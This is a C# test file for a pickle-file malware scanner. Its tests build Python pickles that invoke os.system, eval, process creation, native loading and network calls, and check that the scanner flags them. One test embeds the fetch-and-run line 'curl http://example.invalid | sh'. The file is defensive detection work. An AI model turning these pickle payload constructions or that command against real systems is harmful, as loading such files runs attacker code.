// What pickles call and construct, from bytes to verdict.
using Assay.Pickle;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using static Assay.Tests.Builders.PickleParts;

namespace Assay.Tests.Requirements;

public sealed class PickleCallTests
{
    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    [InlineData(5)]
    public void T001_AListedCallIsMaliciousInEveryProtocol(int protocol)
    {
        PickleBuilder pickle = protocol < 2 ? PickleBuilder.Start() : PickleBuilder.Protocol(protocol);
        _ = protocol < 4 ? pickle.Global("os", "system") : pickle.StackGlobal("os", "system");
        _ = protocol == 0 ? pickle.Mark().Op(Op.STRING).Line("'id'").Tuple() : pickle.Push("id").Tuple1();
        TargetReport report = Scanned.Pickle(pickle.Reduce().Stop());
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.True(report.Is("callable-command-execution"), report.Describe());
        Assert.Contains(report.Findings, f => f.Offset == pickle.Length - 2 && f.Evidence.Any(e => e.Kind == "callable"));
    }

    [Fact]
    public void T002_InstIsACall() =>
        Expect(Verdict.Malicious, "callable-command-execution", PickleBuilder.Start().Mark().Op(Op.STRING).Line("'id'").Inst("os", "system").Stop());

    [Theory]
    [InlineData("logging", "FileHandler")]
    [InlineData("smtplib", "SMTP")]
    public void T004_AClassMadeWithoutItsConstructorIsSuspicious(string module, string name)
    {
        Expect(Verdict.Suspicious, "listed-callable-constructed", PickleBuilder.Protocol(2).Push(New(module, name, "x")).Stop());
        Expect(Verdict.Suspicious, "listed-callable-constructed", PickleBuilder.Protocol(4).Global(module, name).EmptyTuple().Op(Op.EMPTY_DICT).Op(Op.NEWOBJ_EX).Stop());

        // INST without arguments makes a class without its constructor, too.
        Expect(Verdict.Suspicious, "listed-callable-constructed", PickleBuilder.Start().Mark().Inst(module, name).Stop());
    }

    [Theory]
    [InlineData("logging", "FileHandler")]
    [InlineData("smtplib", "SMTP")]
    public void T004_AClassThatIsCalledIsMalicious(string module, string name)
    {
        Assert.Equal(Verdict.Malicious, Scanned.Pickle(PickleBuilder.Protocol(2).Invoke(module, name, "x").Stop()).Verdict);
        Assert.Equal(Verdict.Malicious, Scanned.Pickle(PickleBuilder.Start().Mark().Push("x").Inst(module, name).Stop()).Verdict);
    }

    [Theory]
    [InlineData("__builtin__", "eval", "callable-code-execution")]
    [InlineData("copy_reg", "add_extension", "callable-import")]
    [InlineData("commands", "getoutput", "callable-command-execution")]
    [InlineData("httplib", "HTTPSConnection", "callable-network")]
    [InlineData("urllib2", "urlopen", "callable-network")]
    [InlineData("urllib", "urlretrieve", "callable-network")]
    [InlineData("cPickle", "loads", "callable-nested-load")]
    public void T015_NamesOfPython2AreTheirSuccessors(string module, string name, string rule) =>
        Expect(Verdict.Malicious, rule, PickleBuilder.Protocol(2).Invoke(module, name, "x").Stop());

    [Theory]
    [InlineData("posix")]
    [InlineData("nt")]
    [InlineData("os")]
    public void T016_TwinsOfAPlatformAreOne(string module) =>
        Expect(Verdict.Malicious, "callable-command-execution", PickleBuilder.Protocol(4).StackGlobal(module, "system").Push(Tuple("id")).Reduce().Stop());

    [Theory]
    [InlineData("posixpath", "os.system")]
    [InlineData("ntpath", "os.system")]
    public void T016_TwinsOfAPathModuleLeadToTheSamePlace(string module, string name) =>
        Expect(Verdict.Malicious, "callable-command-execution", PickleBuilder.Protocol(4).StackGlobal(module, name).Push(Tuple("id")).Reduce().Stop());

    [Theory]
    [InlineData("_pickle", "loads", "callable-nested-load")]
    [InlineData("_io", "open", "callable-file-write")]
    [InlineData("_posixsubprocess", "fork_exec", "callable-command-execution")]
    [InlineData("_winapi", "CreateProcess", "callable-command-execution")]
    [InlineData("_ctypes", "dlopen", "callable-native-load")]
    [InlineData("_xxsubinterpreters", "run_string", "callable-code-execution")]
    [InlineData("_socket", "socket", "callable-network")]
    public void T017_PrivateModulesAreMaliciousWhenCalled(string module, string name, string rule) =>
        Expect(Verdict.Malicious, rule, PickleBuilder.Protocol(2).Invoke(module, name, "x").Stop());

    [Theory]
    [InlineData("numpy.distutils.exec_command", "exec_command")]
    [InlineData("torch.utils.cpp_extension", "load_inline")]
    [InlineData("asyncio.subprocess", "create_subprocess_shell")]
    public void T018_ModulesOfAListedPackageAreListed(string module, string name) =>
        Expect(Verdict.Malicious, "callable-command-execution", PickleBuilder.Protocol(2).Invoke(module, name, "x").Stop());

    [Fact]
    public void T021_AnObjectOfAPersistentIdThatIsCalledIsSuspicious() =>
        Expect(Verdict.Suspicious, "computed-callable-called", PickleBuilder.Protocol(2).Push("7").Op(Op.BINPERSID).Push(Tuple("x")).Reduce().Stop());

    [Fact]
    public void T022_APersistentIdOfAStorageIsPassed() =>
        Assert.Equal(Verdict.Passed, Scanned.Bytes(TorchFiles.Members(PickleOf(TorchFiles.StateDict)).Build(), "model.pt").Verdict);

    [Fact]
    public void T023_BuffersOutsideTheStreamAreReadToTheEnd()
    {
        TargetReport report = Scanned.Pickle(PickleBuilder.Protocol(5).Op(Op.NEXT_BUFFER).Op(Op.NEXT_BUFFER).Op(Op.READONLY_BUFFER).Tuple2().Stop());
        Assert.True(report.Verdict == Verdict.Passed && report.Unread.Count == 0, report.Describe());
    }

    [Fact]
    public void T051_OldInstancesOfOrdinaryClassesArePassed()
    {
        TargetReport report = Scanned.Bytes(PickleOf(Call("copy_reg", "_reconstructor", Import("mypackage", "Thing"), Import("__builtin__", "object"), null)));
        Assert.True(report.Verdict == Verdict.Passed, report.Describe());
    }

    [Fact]
    public void T050_CodeThatReachesCommandsIsNeverPassed()
    {
        object code = Call("dill._dill", "_create_code", 1, 0, 0, 1, 2, 67, new byte[] { 1, 2 }, Tuple(null, "curl http://example.invalid | sh"), Tuple("os", "system"), Tuple("x"));
        TargetReport report = Scanned.Bytes(PickleOf(Call("dill._dill", "_create_function", code, Dict())));
        Assert.True(report.Verdict >= Verdict.Suspicious && report.Is("carried-code-harmful"), report.Describe());
    }

    [Fact]
    public void T050_CodeOfAnOrdinaryFunctionIsANote()
    {
        object code = Call("dill._dill", "_create_code", 1, 0, 0, 1, 2, 67, new byte[] { 1, 2 }, Tuple(null, 2), Tuple("np", "mean"), Tuple("x"));
        TargetReport report = Scanned.Bytes(PickleOf(Call("dill._dill", "_create_function", code, Dict())));
        Assert.True(report.Verdict == Verdict.Passed && report.Is("carried-code"), report.Describe());
    }

    [Fact]
    public void T054_AnUnknownFunctionThatIsCalledIsSuspicious() =>
        Expect(Verdict.Suspicious, "unknown-callable-called", PickleBuilder.Protocol(2).Invoke("mypackage.tools", "load_everything", "/srv/x").Stop());

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void T055_AnUnknownClassThatIsOnlyMadeIsANote(bool byFunction)
    {
        object instance = byFunction ? Call("copyreg", "__newobj__", Import("mypackage.model", "Net")) : New("mypackage.model", "Net");
        TargetReport report = Scanned.Bytes(PickleOf(Built(instance, Dict("layers", 3))));
        Assert.True(report.Verdict == Verdict.Passed && report.Is("third-party-code"), report.Describe());
        Assert.Contains(report.Findings, f => f.Message.Contains("mypackage", StringComparison.Ordinal));
    }

    private static void Expect(Verdict verdict, string rule, PickleBuilder pickle)
    {
        TargetReport report = Scanned.Pickle(pickle);
        Assert.True(report.Verdict == verdict && report.Is(rule), $"expected {verdict} by {rule}, got {report.Describe()}");
    }
}
